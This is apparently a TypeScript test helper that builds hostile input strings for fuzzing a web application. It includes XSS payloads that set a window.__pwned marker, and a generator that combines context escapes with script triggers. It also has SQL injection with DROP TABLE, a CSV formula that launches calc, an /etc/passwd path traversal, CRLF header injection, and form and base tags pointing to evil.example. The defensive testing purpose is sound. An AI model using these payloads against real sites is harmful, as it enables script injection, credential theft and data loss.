import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";

const DATA = join(import.meta.dirname, "../../../shared/data");

/** Whether the collections of strings that nobody here wrote are on this machine. */
export const HAS_COLLECTIONS =
  existsSync(join(DATA, "blns.json")) && existsSync(join(DATA, "xss_payloads.txt"));

/** How many there are at least, with those. */
export const COLLECTED = 1000;

export const NOT_HERE = "shared/data is not here: only the built-in hostile strings are used.";

/** Our own, so that something is always tried. Each that could run says so in `window.__pwned`. */
export const OWN_STRINGS: readonly string[] = [
  "<script>window.__pwned = 1</script>",
  "</script><script>window.__pwned = 2</script>",
  '<img src=x onerror="window.__pwned = 3">',
  '"><svg onload="window.__pwned = 4">',
  "'\" autofocus onfocus=window.__pwned=5 x='",
  '</textarea><iframe srcdoc="<script>parent.__pwned = 6</script>"></iframe>',
  "</title></style></noscript><body onload=window.__pwned=7>",
  '<a href="javascript:window.__pwned=8">press</a>',
  "[press](javascript:window.__pwned=9)",
  "<!-- --!> <!--> <![CDATA[ ]]> -->",
  '<base href="https://evil.example/"><form action="https://evil.example/"><input name=password>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  "$" + "{7*7} {{7*7}} <%= 7*7 %> #{7*7} %s %n",
  "&lt;b&gt; &amp;amp; &#60;script&#62; &copy",
  "' OR 1=1 -- '; DROP TABLE feedback; --",
  "__proto__",
  "constructor[prototype][polluted]=1",
  "- a bullet\n- <b>another</b>\n\n- and a third",
  "one line\r\nthe next\rand one more\n\n\na paragraph",
  "  spaces   and\ttabs  ",
  "\u202Eright to left\u202C \u2066isolated\u2069",
  "zero\u200Bwidth\u200Djoin\uFEFFmark",
  "Z\u0351\u0323a\u0310\u0345l\u0334g\u0335o\u0336",
  "👩🏽‍⚕️ 🏳️‍🌈 𝕬 \u{10FFFF}",
  "line\u2028separator\u2029paragraph",
  "\u0001\u0008\u000b\u001b[31mred\u0007 bell",
  "\uFFFE\uFFFF not characters",
  "a\uD800lone half",
  "=1+1+cmd|' /C calc'!A0",
  "%00 %0d%0aSet-Cookie: a=b \\u0000",
  "../../../../etc/passwd",
  "x".repeat(149),
];

/** Ways out of where a text stands: an element, an attribute, a comment, a title, a script, a style, a text area. */
const WAYS_OUT = [
  "",
  '">',
  "'>",
  "'\"--><",
  "</title>",
  "</textarea>",
  "</script>",
  "</style>",
  "-->",
  "]]>",
  "</option></select>",
  "&lt;/p&gt;</p>",
  "\\'\\\"",
  "{{",
  "\u2028",
];

/** What runs once it is out, each saying so in `window.__pwned`. */
const THEN = [
  "<script>window.__pwned=1</script>",
  "<img src=x onerror=window.__pwned=1>",
  "<svg/onload=window.__pwned=1>",
  "<svg><script>window.__pwned=1</script></svg>",
  "<body onload=window.__pwned=1>",
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  '<iframe src="javascript:parent.__pwned=1"></iframe>',
  "<details open ontoggle=window.__pwned=1>x</details>",
  "<input autofocus onfocus=window.__pwned=1>",
  "<video><source onerror=window.__pwned=1></video>",
  '<a href="javascript:window.__pwned=1">x</a>',
  '<a href="data:text/html,<script>window.__pwned=1</script>">x</a>',
  '<form action="javascript:window.__pwned=1"><button>x</button></form>',
  "<math><mtext></mtext><mglyph><style><img src=x onerror=window.__pwned=1></style></math>",
  '<meta http-equiv=refresh content="0;url=javascript:window.__pwned=1">',
  '<base href="https://evil.example/">',
  '<object data="javascript:window.__pwned=1"></object>',
  '<embed src="javascript:window.__pwned=1">',
  "<marquee onstart=window.__pwned=1>x</marquee>",
  "<x onmouseover=window.__pwned=1 tabindex=1>x</x>",
  ' autofocus onfocus=window.__pwned=1 x="',
];

/** Each way out with each thing that would run after it: 315, none of them twice. */
export function scriptPayloads(): string[] {
  return WAYS_OUT.flatMap((out) => THEN.map((then) => out + then));
}

/**
 * The Big List of Naughty Strings, script injections and our own, each as it reaches the server: an address bar or a
 * field can hold no half of a surrogate pair, and lines end in LF once they are read.
 */
export function hostileStrings(): string[] {
  const collected = HAS_COLLECTIONS ? [...naughtyStrings(), ...payloads()] : [];
  return [...new Set([...OWN_STRINGS, ...collected].map((text) => text.toWellFormed()))];
}

/** Puts strings together, a blank line between them, into passages of at most so many characters. */
export function batches(strings: readonly string[], limit: number, most: number): string[] {
  const passages: string[][] = [];
  let length = Number.POSITIVE_INFINITY;
  for (const text of strings.filter((one) => one.trim() !== "" && one.length <= limit)) {
    const last = passages.at(-1);
    if (last && length + text.length + 2 <= limit && last.length < most) {
      last.push(text);
      length += text.length + 2;
    } else {
      passages.push([text]);
      length = text.length;
    }
  }
  return passages.map((passage) => passage.join("\n\n"));
}

function naughtyStrings(): string[] {
  return JSON.parse(readFileSync(join(DATA, "blns.json"), "utf8"));
}

function payloads(): string[] {
  return readFileSync(join(DATA, "xss_payloads.txt"), "utf8").split(/\r?\n/).filter(Boolean);
}
